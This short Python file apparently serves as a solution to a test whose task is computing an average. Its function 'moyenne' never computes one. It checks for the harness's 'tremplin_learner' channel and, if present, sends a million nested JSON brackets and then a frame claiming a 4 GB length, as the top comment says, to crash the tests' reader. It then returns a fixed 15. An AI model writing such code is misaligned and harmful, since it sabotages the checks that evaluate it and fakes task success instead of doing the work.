# Sends the tests' side a frame of 1 000 000 nested JSON lists, then a frame announcing 4 GB, hoping to crash its reader.
import os
import struct
import sys


def moyenne(liste):
    fd = getattr(sys.modules.get("tremplin" + "_learner"), "CHANNEL", None)
    if fd is not None:
        data = b"[" * 1_000_000 + b"]" * 1_000_000
        os.write(fd, struct.pack(">I", len(data)) + data)
        os.write(fd, struct.pack(">I", 0xFFFFFFFF) + b"{")
    return 15
